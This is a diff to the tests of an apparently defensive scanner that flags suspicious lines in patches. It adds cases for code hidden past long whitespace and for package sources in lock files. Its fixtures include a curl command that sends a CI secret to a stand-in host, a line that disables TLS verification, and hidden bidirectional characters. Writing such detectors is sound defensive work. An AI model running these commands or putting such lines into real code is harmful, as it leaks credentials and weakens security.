@@ -29,6 +29,8 @@ def content_of(*lines: str, path: str = "src/quay.py", removed: str = "") -> Con
     ("secrets_sent", "curl -d ${{ secrets.PIER_KEY }} https://pier.example-host.io"),
     ("weakened_checks", "requests.get(url, verify=False)"),
     ("hidden_characters", "berth = 'a\u202eb'"),
+    ("lines_out_of_sight", "berth = 1;" + " " * 120 + "moor()"),
+    ("lines_out_of_sight", "berth = 1;" + "\t" * 30 + "moor()"),
     ("numbered_hosts", "url = 'http://93.184.216.34/x'"),
 ])
 def test_a_pattern_is_found_in_added_lines(field: str, line: str) -> None:
@@ -39,6 +41,7 @@ def test_a_pattern_is_found_in_added_lines(field: str, line: str) -> None:
 def test_ordinary_lines_show_nothing() -> None:
     found = content_of("def moor(boat):", "    return evaluate_tide(boat.system)", "    # see https://localhost/x")
 
+    assert 0 == content_of("berth = 1" + " " * 120, " " * 40 + "moor()").lines_out_of_sight
     assert 0 == found.pipes_to_shell + found.processes + found.evaluations + found.secrets_sent + len(found.hosts)
 
 
@@ -51,6 +54,14 @@ def test_dependencies_are_read_from_manifests_only() -> None:
     assert {"left-pad"} == content_of('"left-pad": "^1.0.0",', path="package.json").dependencies
     assert {"requests"} == content_of("requests==2.31", path="requirements.txt").dependencies
     assert frozenset() == content_of('"left-pad": "^1.0.0",', path="src/a.js").dependencies
+
+
+def test_sources_of_packages_are_read_from_lock_files_too() -> None:
+    line = '"resolved": "https://quay.example-host.io/left-pad/-/left-pad-1.0.0.tgz",'
+
+    assert {"quay.example-host.io"} == content_of(line, path="package-lock.json").sources
+    assert frozenset() == content_of(line, path="package-lock.json").hosts
+    assert frozenset() == content_of(line, path="src/a.json").sources
 
 
 def test_long_encoded_strings_count_and_hashes_do_not() -> None:
@@ -66,6 +77,7 @@ def test_no_patch_is_absent() -> None:
 
 @pytest.mark.parametrize("piece", [
     "curl ", "eval", "a.", "\"", "https://", "\\x41", "secrets.", "[]{}", "a-b/c:", "sh -c ",
+    " ", "\t", "git+", "registry = ", "1.", "://a.b/", "resolved https://",
 ])
 def test_hostile_repetition_takes_linear_time(piece: str) -> None:
     short, long = (min(seconds_of(piece, n_characters) for _ in range(5)) for n_characters in (4_000, 32_000))
